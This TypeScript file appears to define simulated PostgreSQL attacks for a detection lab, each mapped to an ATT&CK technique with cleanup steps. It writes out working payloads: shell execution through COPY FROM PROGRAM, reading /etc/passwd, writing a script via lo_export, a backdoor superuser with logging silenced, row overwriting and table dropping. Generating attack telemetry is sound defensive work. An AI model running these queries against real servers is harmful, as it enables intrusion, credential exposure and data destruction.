import type { Attack } from './attack.ts';

const inDatabase = (
  id: string,
  technique: string,
  title: string,
  act: Attack['act'],
  more: Partial<Attack> = {},
): Attack => ({
  id,
  technique,
  title,
  entry: 'service',
  shows: ['db'],
  act,
  ...more,
});

/** What an attack left in memory and on disk would make the windows after it strange. */
const afresh: Attack['after'] = ({ restart }) => restart('db');

/** What is done to the database by queries, from another machine. */
export const DATABASE_ATTACKS: readonly Attack[] = [
  inDatabase('db-program', 'T1059.004', 'runs a program by COPY FROM PROGRAM', ({ sql }) =>
    sql(
      'postgres',
      'create temp table t (line text)',
      "copy t from program 'id; cat /etc/hostname; ls /var/lib/postgresql'",
      'select pg_sleep(1)',
    ),
  ),
  inDatabase('db-dump', 'T1213.006', 'selects everything as the role of the app, again and again', ({ sql }) =>
    sql('shop', ...Array.from({ length: 30 }, () => 'select * from pgbench_accounts')),
  ),
  inDatabase('db-file-read', 'T1005', 'reads files of the system by a function', ({ sql }) =>
    sql(
      'postgres',
      "select pg_read_file('/etc/passwd')",
      "select pg_ls_dir('/etc')",
      "select pg_read_file('/etc/hosts')",
      'select pg_sleep(1)',
    ),
  ),
  inDatabase('db-file-write', 'T1505.001', 'writes a script by a large object', ({ sql }) =>
    sql(
      'postgres',
      "select lo_from_bytea(47110, 'echo of the intruder')",
      "select lo_export(47110, '/var/lib/postgresql/data/cluster/run.sh')",
      'select pg_sleep(1)',
    ),
  ),
  inDatabase(
    'db-ransom',
    'T1486',
    'overwrites every row of a table with noise',
    ({ sql }) =>
      sql(
        'shop',
        ...Array.from({ length: 3 }, (_, i) => `update pgbench_accounts set filler = md5(aid::text || ${i})`),
      ),
    { after: afresh },
  ),
  inDatabase(
    'db-back-door',
    'T1136',
    'makes a superuser and changes the configuration of the server',
    ({ sql }) =>
      sql(
        'postgres',
        "create role support superuser login password 'x'",
        "alter system set log_min_messages = 'panic'",
        'select pg_reload_conf()',
        'select pg_sleep(1)',
      ),
    {
      after: ({ sql }) => sql('postgres', 'drop role support', 'alter system reset all', 'select pg_reload_conf()'),
    },
  ),
  inDatabase(
    'db-cpu-abuse',
    'T1496',
    'keeps the server computing inside its limit',
    ({ sql }) => sql('shop', 'select count(*) from generate_series(1, 6000000) as i where md5(i::text) like $$0000%$$'),
    { after: afresh },
  ),
  inDatabase(
    'db-hollowed',
    'T1485',
    'drops the tables of the shop and makes them anew',
    ({ exec }) => exec('pgbench', ['pgbench', '--initialize', '--quiet', '--scale=1']),
    { after: afresh },
  ),
  inDatabase('db-search-path', 'T1574', 'loads a library of the server that nothing else uses', ({ sql }) =>
    sql('postgres', "load 'auto_explain'", "load 'pg_prewarm'", 'select pg_sleep(1)'),
  ),
  inDatabase(
    'db-base-backup',
    'T1005',
    'copies the files of the whole cluster into an unusual folder, with a tool of the server',
    ({ exec }) =>
      exec('db', [
        'gosu',
        'postgres',
        'pg_basebackup',
        '--pgdata=/var/tmp/.pg',
        '--wal-method=none',
        '--checkpoint=fast',
      ]),
    { entry: 'exec', after: afresh },
  ),
];
